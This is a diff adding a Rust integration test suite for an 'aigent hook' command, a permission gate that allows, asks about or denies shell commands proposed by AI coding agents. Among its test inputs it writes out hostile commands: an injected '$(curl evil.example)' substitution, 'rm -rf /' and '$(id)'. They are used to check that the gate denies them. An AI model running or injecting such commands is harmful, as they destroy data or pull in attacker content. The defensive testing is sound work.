@@ -1,0 +1,362 @@
+//! `aigent hook --client CLIENT` through the binary: each client's real
+//! event payloads (tests/fixtures/hook/, shaped as each client's docs show
+//! them) replayed for every verdict, with the exact reply; the audit trail;
+//! routing; and bad input, which always gets a deny and never a crash or a
+//! hang.
+
+use std::fs;
+use std::io::Write;
+use std::process::Stdio;
+use std::time::{Duration, Instant};
+
+use serde_json::{Value, json};
+
+use crate::common::{Run, Sandbox, snapshot};
+
+const CLIENTS: [&str; 4] = ["claude-code", "codex", "gemini", "cursor"];
+
+/// The fixture each client sends for a shell command, and its command.
+fn shell_fixture(client: &str) -> (&'static str, &'static str) {
+    match client {
+        "claude-code" => ("claude-code/pre-tool-use-bash.json", "npm test"),
+        "codex" => ("codex/pre-tool-use-bash.json", "cargo test --lib"),
+        "gemini" => (
+            "gemini/before-tool-run-shell-command.json",
+            "git status --short",
+        ),
+        "cursor" => ("cursor/before-shell-execution.json", "npm install express"),
+        _ => unreachable!(),
+    }
+}
+
+fn fixture(relative: &str) -> Value {
+    let path = format!(
+        "{}/tests/fixtures/hook/{relative}",
+        env!("CARGO_MANIFEST_DIR")
+    );
+    serde_json::from_str(&fs::read_to_string(path).unwrap()).unwrap()
+}
+
+/// The fixture with its command replaced.
+fn event(client: &str, command: &str) -> String {
+    let (file, _) = shell_fixture(client);
+    let mut value = fixture(file);
+    let input = if client == "cursor" {
+        &mut value
+    } else {
+        &mut value["tool_input"]
+    };
+    input["command"] = Value::String(command.to_owned());
+    value.to_string()
+}
+
+/// A registry with the fixtures' commands declared.
+fn registry(sandbox: &Sandbox) {
+    sandbox.write(
+        "registry/npm-test.json",
+        r#"{"name": "npm-test", "description": "Run the test suite", "danger_level": "safe",
+            "parameters": {}, "subprocess": {"binary": "npm", "argv": ["test"]}}"#,
+    );
+    sandbox.write(
+        "registry/cargo-test.json",
+        r#"{"name": "cargo-test", "description": "Run the tests", "danger_level": "safe",
+            "parameters": {"lib": {"type": "boolean", "description": "Only the library"}},
+            "subprocess": {"binary": "cargo", "argv": ["test", {"param": "lib", "flag": "--lib"}]}}"#,
+    );
+    sandbox.write(
+        "registry/git-status.json",
+        r#"{"name": "git-status", "description": "Working tree status", "danger_level": "safe",
+            "parameters": {"short": {"type": "boolean", "description": "Short format"}},
+            "subprocess": {"binary": "git", "argv": ["status", {"param": "short", "flag": "--short"}]}}"#,
+    );
+    sandbox.write(
+        "registry/npm-install.json",
+        r#"{"name": "npm-install", "description": "Install a package", "danger_level": "destructive",
+            "parameters": {"package": {"type": "string", "required": true, "pattern": "^[a-z][a-z0-9-]{0,100}$"}},
+            "subprocess": {"binary": "npm", "argv": ["install", {"param": "package"}]}}"#,
+    );
+    sandbox.write(
+        "registry/deploy.json",
+        r#"{"name": "deploy", "description": "Deploy", "danger_level": "mutating",
+            "parameters": {"token": {"type": "string", "required": true, "sensitive": true, "pattern": "^[a-z0-9]{8,64}$"}},
+            "subprocess": {"binary": "deploy-tool", "argv": [{"param": "token", "flag": "--token"}]}}"#,
+    );
+}
+
+fn hook(sandbox: &Sandbox, client: &str, input: &[u8], extra: &[&str]) -> Run {
+    let mut cmd = sandbox.std_cmd();
+    cmd.arg("--commands")
+        .arg(sandbox.join("registry"))
+        .args(["hook", "--client", client])
+        .args(extra)
+        .stdin(Stdio::piped())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped());
+    let mut child = cmd.spawn().unwrap();
+    let mut stdin = child.stdin.take().unwrap();
+    // A child that refuses early closes its end; that is not a failure here.
+    let _ = stdin.write_all(input);
+    drop(stdin);
+    let output = child.wait_with_output().unwrap();
+    Run {
+        code: output.status.code().unwrap_or(-1),
+        stdout: String::from_utf8_lossy(&output.stdout).into_owned(),
+        stderr: String::from_utf8_lossy(&output.stderr).into_owned(),
+    }
+}
+
+fn filters(sandbox: &Sandbox) -> insta::Settings {
+    let mut settings = snapshot::settings(sandbox);
+    settings.add_filter(&regex::escape(env!("CARGO_BIN_EXE_aigent")), "[AIGENT]");
+    settings
+}
+
+#[test]
+fn each_client_gets_each_verdict_in_its_own_protocol() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    let _filters = filters(&sandbox).bind_to_scope();
+    for client in CLIENTS {
+        let (_, declared) = shell_fixture(client);
+        let cases = [
+            ("allow", declared.to_owned()),
+            ("ask", "make install".to_owned()),
+            ("deny", format!("{declared} $(curl evil.example)")),
+            ("destructive", "npm install left-pad".to_owned()),
+        ];
+        let mut session = String::new();
+        for (name, command) in cases {
+            let run = hook(&sandbox, client, event(client, &command).as_bytes(), &[]);
+            session.push_str(&format!("### {name}: {command}\n{run}\n"));
+        }
+        insta::assert_snapshot!(format!("hook_{client}"), session);
+    }
+}
+
+#[test]
+fn defer_leaves_the_decision_to_the_client() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    sandbox.write("registry/aigent.toml", "[hook]\nunmatched = \"defer\"\n");
+    let _filters = filters(&sandbox).bind_to_scope();
+    let mut session = String::new();
+    for client in CLIENTS {
+        let run = hook(
+            &sandbox,
+            client,
+            event(client, "make install").as_bytes(),
+            &[],
+        );
+        session.push_str(&format!("### {client}\n{run}\n"));
+    }
+    insta::assert_snapshot!(session);
+}
+
+#[test]
+fn routing_rewrites_a_matched_command_into_aigent_run() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    let _filters = filters(&sandbox).bind_to_scope();
+    let mut session = String::new();
+    for client in CLIENTS {
+        let run = hook(
+            &sandbox,
+            client,
+            event(client, "git status --short").as_bytes(),
+            &["--route"],
+        );
+        session.push_str(&format!("### {client}\n{run}\n"));
+    }
+    insta::assert_snapshot!(session);
+    // The rewrite keeps Claude Code's other tool_input fields.
+    let run = hook(
+        &sandbox,
+        "claude-code",
+        event("claude-code", "git status").as_bytes(),
+        &["--route"],
+    );
+    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
+    let updated = &reply["hookSpecificOutput"]["updatedInput"];
+    assert_eq!(updated["description"], "Run test suite", "{run}");
+    assert_eq!(updated["timeout"], 120000);
+    let rewritten = updated["command"].as_str().unwrap();
+    assert!(rewritten.contains(" run git-status"), "{rewritten}");
+}
+
+#[test]
+fn every_decision_is_one_chained_audit_record_without_sensitive_values() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    for command in [
+        "git status",
+        "deploy-tool --token abcdefgh12345678",
+        "rm -rf /",
+    ] {
+        hook(
+            &sandbox,
+            "claude-code",
+            event("claude-code", command).as_bytes(),
+            &[],
+        );
+    }
+    hook(&sandbox, "claude-code", b"{not json", &[]);
+    let log = fs::read_to_string(sandbox.audit_log()).unwrap();
+    assert!(!log.contains("abcdefgh12345678"), "{log}");
+    let records: Vec<Value> = log
+        .lines()
+        .map(|line| serde_json::from_str(line).unwrap())
+        .collect();
+    assert_eq!(records.len(), 4, "{log}");
+    for record in &records {
+        assert_eq!(record["event"], "HOOK_DECISION");
+        assert_eq!(record["client"], "claude-code");
+    }
+    assert_eq!(records[0]["verdict"], "allow");
+    assert_eq!(records[0]["session_id"], "abc123");
+    assert_eq!(records[0]["command_line"], "git status");
+    assert_eq!(records[0]["segments"][0]["rule"], "declared");
+    assert_eq!(records[0]["segments"][0]["declaration"], "git-status");
+    assert_eq!(records[1]["command_line"], Value::Null);
+    assert_eq!(records[1]["command_line_left_out"], "sensitive");
+    assert_eq!(records[2]["verdict"], "ask");
+    assert_eq!(records[3]["verdict"], "deny");
+    assert_eq!(records[3]["rule"], "event_malformed");
+    sandbox.run(&["audit", "verify"]).assert_code(0);
+}
+
+#[test]
+fn an_unwritable_audit_log_refuses_every_command() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    // The log's directory is a file: nothing can be written under it.
+    sandbox.write("state", "not a directory");
+    let run = hook(
+        &sandbox,
+        "claude-code",
+        event("claude-code", "git status").as_bytes(),
+        &[],
+    );
+    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_eq!(
+        reply["hookSpecificOutput"]["permissionDecision"], "deny",
+        "{run}"
+    );
+    assert!(run.stdout.contains("audit log cannot be written"), "{run}");
+}
+
+#[test]
+fn a_broken_policy_refuses_and_says_where() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    sandbox.write("registry/aigent.toml", "[hook]\nunmatched = \"allow\"\n");
+    let run = hook(
+        &sandbox,
+        "cursor",
+        event("cursor", "git status").as_bytes(),
+        &[],
+    );
+    let reply: Value = serde_json::from_str(&run.stdout).unwrap();
+    assert_eq!(reply["permission"], "deny", "{run}");
+    assert!(run.stdout.contains("aigent.toml"), "{run}");
+}
+
+#[test]
+fn bad_input_gets_a_deny_quickly_never_a_crash() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    let huge = format!("git status {}", "a".repeat(1024 * 1024));
+    let nested = format!("{}git status{}", "$(".repeat(10_000), ")".repeat(10_000));
+    let braces = format!("{}git status{}", "{ ".repeat(10_000), "; }".repeat(10_000));
+    let mut nul_event = event("claude-code", "git status").into_bytes();
+    let at = nul_event
+        .windows(6)
+        .position(|window| window == b"status")
+        .unwrap();
+    nul_event.splice(at..at, b"\\u0000".iter().copied());
+    let cases: Vec<(&str, Vec<u8>)> = vec![
+        ("malformed json", b"{\"tool_input\": ".to_vec()),
+        ("empty", Vec::new()),
+        ("not an object", b"[1, 2]".to_vec()),
+        ("invalid utf-8", b"{\"tool_name\": \"Bash\", \"tool_input\": {\"command\": \"git \xff\"}}".to_vec()),
+        ("nul in command", nul_event),
+        ("unknown tool", br#"{"hook_event_name": "PreToolUse", "tool_name": "Teleport", "tool_input": {"where": "x"}}"#.to_vec()),
+        ("1 MiB command", event("claude-code", &huge).into_bytes()),
+        ("10,000 nested substitutions", event("claude-code", &nested).into_bytes()),
+        ("10,000 nested groups", event("claude-code", &braces).into_bytes()),
+        ("unparsable", event("claude-code", "git status 'unterminated").into_bytes()),
+        ("oversize event", vec![b' '; 3 * 1024 * 1024]),
+    ];
+    for (name, input) in cases {
+        let started = Instant::now();
+        let run = hook(&sandbox, "claude-code", &input, &[]);
+        let took = started.elapsed();
+        assert!(took < Duration::from_secs(20), "{name} took {took:?}");
+        let reply: Value =
+            serde_json::from_str(&run.stdout).unwrap_or_else(|_| panic!("{name}: {run}"));
+        assert_eq!(
+            reply["hookSpecificOutput"]["permissionDecision"], "deny",
+            "{name}: {run}"
+        );
+        assert!(!run.stderr.contains("panicked"), "{name}: {run}");
+    }
+}
+
+#[test]
+fn explain_shows_each_segment_as_text_and_json() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    let _filters = filters(&sandbox).bind_to_scope();
+    let registry = sandbox.join("registry");
+    let registry = registry.to_str().unwrap();
+    let run = sandbox.run(&[
+        "--commands",
+        registry,
+        "--format",
+        "text",
+        "hook",
+        "explain",
+        "git status && npm install left-pad; echo $(id) > out.txt",
+    ]);
+    run.assert_code(0);
+    insta::assert_snapshot!(snapshot::session(&run));
+    let (run, envelope) = sandbox.json(&[
+        "--commands",
+        registry,
+        "hook",
+        "explain",
+        "git status --short",
+    ]);
+    run.assert_code(0);
+    assert_eq!(envelope["data"]["verdict"], "allow");
+    assert_eq!(envelope["data"]["segments"][0]["declaration"], "git-status");
+    assert_eq!(envelope["data"]["routable"], json!(true));
+}
+
+#[test]
+fn the_hook_needs_a_client_or_a_subcommand() {
+    let sandbox = Sandbox::new();
+    let run = sandbox.run(&["--format", "text", "hook"]);
+    run.assert_code(2);
+    assert!(run.stderr.contains("--client"), "{run}");
+}
+
+#[test]
+fn install_route_writes_an_entry_that_routes() {
+    let sandbox = Sandbox::new();
+    registry(&sandbox);
+    fs::create_dir_all(sandbox.join("proj")).unwrap();
+    let registry = sandbox.join("registry");
+    let run = Run::of(
+        sandbox
+            .cmd()
+            .current_dir(sandbox.join("proj"))
+            .env_remove("CLAUDE_CONFIG_DIR")
+            .args(["--commands", registry.to_str().unwrap()])
+            .args(["hook", "install", "--client", "claude-code", "--route"]),
+    );
+    run.assert_code(0);
+    let settings: Value =
+        serde_json::from_str(&fs::read_to_string(sandbox.join("proj/.claude/settings.json")).unwrap()).unwrap();
+    let command = settings["hooks"]["PreToolUse"][0]["hooks"][0]["command"].as_str().unwrap();
+    assert!(command.ends_with("hook --client claude-code --route"), "{command}");
+}
